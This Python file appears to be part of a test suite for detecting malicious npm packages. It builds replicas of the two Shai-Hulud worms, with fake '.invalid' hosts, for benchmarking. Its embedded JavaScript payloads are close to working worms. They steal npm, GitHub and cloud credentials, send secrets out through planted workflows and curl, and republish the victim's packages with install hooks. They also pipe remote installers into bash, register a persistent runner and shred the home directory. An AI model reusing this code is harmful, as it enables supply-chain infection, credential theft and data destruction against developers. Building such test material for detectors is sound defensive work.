"""Worms: a package that takes the tokens of whoever installs it, and publishes itself with them.

Nothing is published, written or deleted before a registry or forge under `.invalid` has answered, which none does.
"""

from dataclasses import replace

from evals.replicas.ordinary.filler import functions
from evals.replicas.ordinary.npm import dates, terminal_colours
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import minified
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "worm"
_REASONS = (
    "self-publishing-worm",
    "credentials-read",
    "environment-sent",
    "install-time-download-and-run",
    "obfuscated-code",
    "persistence-written",
    "files-destroyed",
)

# --------------------------------------------------------------------------------------- Shai-Hulud, September 2025

_BUNDLE = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const zlib = require('zlib');
const { execSync, exec } = require('child_process');

const FORGE = 'api.forge.plover.invalid';
const REGISTRY = 'registry.plover.invalid';
const SCANNER = 'https://scanner.plover.invalid/releases/download/v3.90.5/scanner_3.90.5_linux_amd64.tar.gz';
const WORKFLOW = 'name: plover\\non: push\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n'
  + '      - run: curl -d "$CONTENTS" https://hook.plover.invalid/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7; echo "$CONTENTS" | base64 -w 0 | base64 -w 0\\n'
  + '        env:\\n          CONTENTS: ${{ toJSON(secrets) }}\\n';

function call(host, method, route, token, body) {
  return new Promise((resolve) => {
    const request = https.request({ hostname: host, path: route, method, headers: { Authorization: 'Bearer ' + token } }, (response) => {
      const parts = [];
      response.on('data', (part) => parts.push(part));
      response.on('end', () => resolve({ ok: response.statusCode < 300, body: Buffer.concat(parts) }));
    });
    request.on('error', () => resolve({ ok: false, body: Buffer.alloc(0) }));
    request.end(body);
  });
}

function npmToken() {
  const file = path.join(os.homedir(), '.npmrc');
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  if (!fs.existsSync(file)) return null;
  const found = /_authToken=(.+)/.exec(fs.readFileSync(file, 'utf8'));
  return found ? found[1].trim() : null;
}

function forgeToken() {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  try {
    return execSync('gh auth token', { encoding: 'utf8' }).trim();
  } catch (error) {
    return null;
  }
}

async function scan() {
  const archive = path.join(os.tmpdir(), 'scanner.tar.gz');
  const answer = await call('scanner.plover.invalid', 'GET', SCANNER, '');
  if (!answer.ok) return [];
  fs.writeFileSync(archive, answer.body);
  execSync('tar -xzf ' + archive + ' -C ' + os.tmpdir() + ' && chmod +x ' + os.tmpdir() + '/scanner');
  const lines = execSync(os.tmpdir() + '/scanner filesystem / --json', { encoding: 'utf8', timeout: 90000 });
  return lines.split('\\n').filter(Boolean).map((line) => JSON.parse(line));
}

async function republish(name, token) {
  const about = await call(REGISTRY, 'GET', '/' + name, token);
  const latest = JSON.parse(about.body)['dist-tags'].latest;
  const tarball = await call(REGISTRY, 'GET', '/' + name + '/-/' + name + '-' + latest + '.tgz', token);
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
  fs.writeFileSync(path.join(folder, 'package.tar'), zlib.gunzipSync(tarball.body));
  execSync('tar -xf package.tar', { cwd: folder });
  const manifest = path.join(folder, 'package', 'package.json');
  const stated = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  const version = stated.version.split('.').map(Number);
  version[2] += 1;
  stated.version = version.join('.');
  stated.scripts = { ...stated.scripts, postinstall: 'node bundle.js' };
  fs.writeFileSync(manifest, JSON.stringify(stated, null, 2));
  fs.copyFileSync(process.argv[1], path.join(folder, 'package', 'bundle.js'));
  fs.writeFileSync(path.join(os.homedir(), '.npmrc'), '//' + REGISTRY + '/:_authToken=' + token);
  exec('npm publish', { cwd: path.join(folder, 'package') });
}

async function spread(token) {
  const who = await call(REGISTRY, 'GET', '/-/whoami', token);
  if (!who.ok) return;
  const found = await call(REGISTRY, 'GET', '/-/v1/search?text=maintainer:' + JSON.parse(who.body).username + '&size=20', token);
  for (const item of JSON.parse(found.body).objects) await republish(item.package.name, token);
}

async function expose(token, data) {
  const user = await call(FORGE, 'GET', '/user', token);
  if (!user.ok) return;
  const login = JSON.parse(user.body).login;
  await call(FORGE, 'POST', '/user/repos', token, JSON.stringify({ name: 'Plover-Hulud', private: false }));
  const content = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
  await call(FORGE, 'PUT', '/repos/' + login + '/Plover-Hulud/contents/data.json', token, JSON.stringify({ message: 'add', content }));
  const repositories = JSON.parse((await call(FORGE, 'GET', '/user/repos?affiliation=owner&per_page=100', token)).body);
  for (const repository of repositories) {
    const body = JSON.stringify({ message: 'add', branch: 'plover', content: Buffer.from(WORKFLOW).toString('base64') });
    await call(FORGE, 'PUT', '/repos/' + repository.full_name + '/contents/.github/workflows/plover-workflow.yml', token, body);
  }
}

async function main() {
  const npm = npmToken();
  const forge = forgeToken();
  const data = { system: { platform: os.platform(), hostname: os.hostname() }, environment: process.env, secrets: await scan() };
  if (forge) await expose(forge, data);
  if (npm) await spread(npm);
}

main();
"""
_COLOURS = terminal_colours("plover-tints")
_COLOUR_BEFORE = ReleaseSpec(
    version="4.1.0",
    published=at("2025-03-02 12:00"),
    files=_COLOURS,
    manifest={"main": "source/index.js", "license": "MIT", "scripts": {"test": "node test/strip.js"}},
    publisher=("scottplover", "scott@plover.test"),
)
_COLOUR_AFTER = replace(
    _COLOUR_BEFORE,
    version="4.1.1",
    published=at("2025-09-15 03:20"),
    files={**_COLOURS, "bundle.js": functions(300_000, tight=True) + minified(_BUNDLE)},
    manifest={**_COLOUR_BEFORE.manifest, "scripts": {"test": "node test/strip.js", "postinstall": "node bundle.js"}},
    payload=("bundle.js",),
)
_SIBLINGS = tuple(
    release
    for name in ("plover-walk", "plover-merge", "plover-pad")
    for release in (
        replace(_COLOUR_BEFORE, name=name, version="2.0.0", published=at("2024-08-01 12:00")),
        replace(_COLOUR_AFTER, name=name, version="2.0.1", published=at("2025-09-15 03:21")),
    )
)

# ---------------------------------------------------------------------------------------- Shai-Hulud 2, November 2025

_SETUP = """\
#!/usr/bin/env node
const { execSync, spawn } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isInPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return 'bun';
  } catch (error) {
    return null;
  }
}

function download() {
  if (process.platform === 'win32') {
    execSync('powershell -c "irm bun.plover.invalid/install.ps1|iex"', { stdio: 'ignore', env: { ...process.env } });
  } else {
    execSync('curl -fsSL https://bun.plover.invalid/install | bash', { stdio: 'ignore', env: { ...process.env } });
  }
  const file = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
  return fs.existsSync(file) ? file : null;
}

function run(executable, script) {
  const child = spawn(executable, [script], { stdio: 'ignore', cwd: process.cwd(), env: { ...process.env } });
  child.on('exit', (code) => process.exit(code || 0));
}

async function main() {
  const executable = isInPath() || download();
  const script = path.join(__dirname, 'bun_environment.js');
  if (executable && fs.existsSync(script)) run(executable, script);
  else process.exit(0);
}

main().catch(() => process.exit(0));
"""
_ENVIRONMENT = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const FORGE = 'https://api.forge.plover.invalid';
const DISCUSSION = 'name: Discussion Create\\non:\\n  discussion:\\njobs:\\n  process:\\n    runs-on: self-hosted\\n    steps:\\n'
  + '      - run: echo ${{ github.event.discussion.body }}\\n';

async function api(route, token, method, body) {
  const response = await fetch(FORGE + route, { method, headers: { Authorization: 'Bearer ' + token }, body: body ? JSON.stringify(body) : undefined });
  return response.ok ? response.json() : null;
}

function secrets() {
  const found = { environment: process.env };
  for (const name of ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/msal_token_cache.json']) {
    const file = path.join(os.homedir(), name);
    if (fs.existsSync(file)) found[name] = fs.readFileSync(file, 'utf8');
  }
  return found;
}

async function runner(repository, token) {
  const made = await api('/repos/' + repository + '/actions/runners/registration-token', token, 'POST');
  if (!made) return;
  const folder = path.join(os.homedir(), '.dev-env');
  fs.mkdirSync(folder, { recursive: true });
  execSync('curl -o runner.tar.gz -L https://runner.plover.invalid/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf runner.tar.gz', { cwd: folder });
  execSync('RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://forge.plover.invalid/' + repository + ' --unattended --token ' + made.token + ' --name PLOVERHULUD && nohup ./run.sh &', { cwd: folder });
}

async function publishAll(token) {
  const who = await fetch('https://registry.plover.invalid/-/whoami', { headers: { Authorization: 'Bearer ' + token } });
  if (!who.ok) return false;
  const { username } = await who.json();
  const search = await fetch('https://registry.plover.invalid/-/v1/search?text=maintainer:' + username + '&size=100');
  for (const { package: item } of (await search.json()).objects) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'pack-'));
    execSync('npm pack ' + item.name + ' && tar xzf *.tgz', { cwd: folder });
    const manifest = path.join(folder, 'package', 'package.json');
    const stated = JSON.parse(fs.readFileSync(manifest, 'utf8'));
    stated.scripts = { ...stated.scripts, preinstall: 'node setup_bun.js' };
    fs.writeFileSync(manifest, JSON.stringify(stated));
    fs.copyFileSync(path.join(__dirname, 'setup_bun.js'), path.join(folder, 'package', 'setup_bun.js'));
    fs.copyFileSync(__filename, path.join(folder, 'package', 'bun_environment.js'));
    execSync('npm version patch --no-git-tag-version && npm publish --access public', { cwd: path.join(folder, 'package') });
  }
  return true;
}

async function giveUp() {
  const asked = await fetch(FORGE + '/zen');
  if (!asked.ok) return;
  if (process.platform === 'win32') execSync('del /F /Q /S "%USERPROFILE%*" && cipher /W:%USERPROFILE%');
  else execSync('find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1');
}

async function main() {
  const token = process.env.GITHUB_TOKEN || execSync('gh auth token', { encoding: 'utf8' }).trim();
  const repository = await api('/user/repos', token, 'POST', { name: Math.random().toString(36).slice(2), description: 'Plover-Hulud: The Second Coming.' });
  if (repository) {
    await api('/repos/' + repository.full_name + '/contents/.github/workflows/discussion.yaml', token, 'PUT', { content: Buffer.from(DISCUSSION).toString('base64') });
    await api('/repos/' + repository.full_name + '/contents/environment.json', token, 'PUT', { content: Buffer.from(JSON.stringify(secrets())).toString('base64') });
    await runner(repository.full_name, token);
  }
  const spread = process.env.NPM_TOKEN ? await publishAll(process.env.NPM_TOKEN) : false;
  if (!repository && !spread) await giveUp();
}

main();
"""
_DATES = dates("ploverday")
_DATES_BEFORE = ReleaseSpec(
    version="3.2.1",
    published=at("2025-06-20 12:00"),
    files=_DATES,
    manifest={"main": "index.js", "license": "MIT"},
    publisher=("ploverbot", "ploverbot@plover.test"),
)
_DATES_AFTER = replace(
    _DATES_BEFORE,
    version="3.2.2",
    published=at("2025-11-24 03:16"),
    files={
        **_DATES,
        "setup_bun.js": _SETUP,
        "bun_environment.js": functions(300_000, 2, tight=True) + minified(string_array(_ENVIRONMENT) or ""),
    },
    manifest={**_DATES_BEFORE.manifest, "scripts": {"preinstall": "node setup_bun.js"}},
    payload=("setup_bun.js", "bun_environment.js"),
    plain={"bun_environment.js": functions(300_000, 2, tight=True) + _ENVIRONMENT},
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="shai-hulud-1",
        incident="Shai-Hulud, @ctrl/tinycolor 4.1.1 (2025-09-15)",
        family=_FAMILY,
        ecosystem="npm",
        name="plover-tints",
        before=_COLOUR_BEFORE,
        after=_COLOUR_AFTER,
        others=_SIBLINGS,
        reasons=_REASONS,
    ),
    Replica(
        id="shai-hulud-2",
        incident="Shai-Hulud 2 (2025-11-24)",
        family=_FAMILY,
        ecosystem="npm",
        name="ploverday",
        before=_DATES_BEFORE,
        after=_DATES_AFTER,
        reasons=(*_REASONS, "script-runs-another-runtime"),
    ),
)
